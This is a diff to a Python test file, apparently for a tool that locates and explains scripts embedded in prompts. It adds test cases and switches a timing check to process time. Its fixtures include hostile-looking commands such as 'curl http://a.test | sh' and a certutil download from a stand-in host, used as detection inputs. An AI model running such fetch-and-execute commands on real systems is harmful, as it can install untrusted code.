@@ -139,8 +139,18 @@ def test_the_language_is_known_by_words_and_by_name(name: str, text: str, langua
         ("Explain\n```powershell\niex $x\n```\nplease", "iex $x", 3),
         ("what does this do? curl http://a.test | sh", "curl http://a.test | sh", 1),
         ("certutil -urlcache -f http://a.test x", "certutil -urlcache -f http://a.test x", 1),
+        ("What does this command do?\n\nnmap 192.0.2.7\n", "nmap 192.0.2.7", 3),
+        ("Explain the one-liner: frob --all", "frob --all", 1),
     ],
-    ids=["after a colon", "in backticks", "fenced", "after a question mark", "nothing else"],
+    ids=[
+        "after a colon",
+        "in backticks",
+        "fenced",
+        "after a question mark",
+        "nothing else",
+        "called a command",
+        "named",
+    ],
 )
 def test_the_script_is_found_in_the_prompt(prompt: str, script: str, line: int):
     assert script_in(prompt) == (script, line)
@@ -218,9 +228,9 @@ def test_no_script_is_a_gap(text: str):
     ids=["parentheses", "many commands", "many strings", "cmd growth", "shell growth", "PowerShell growth", "long Base64", "nesting", "marks", "long line"],
 )  # fmt: skip
 def test_hostile_scripts_are_bounded(text: str):
-    started = time.perf_counter()
+    started = time.process_time()
     found = explained(text)
-    assert time.perf_counter() - started < 15
+    assert time.process_time() - started < 15
     assert len(of(found, "script_part")) <= MAX_PARTS
 
 
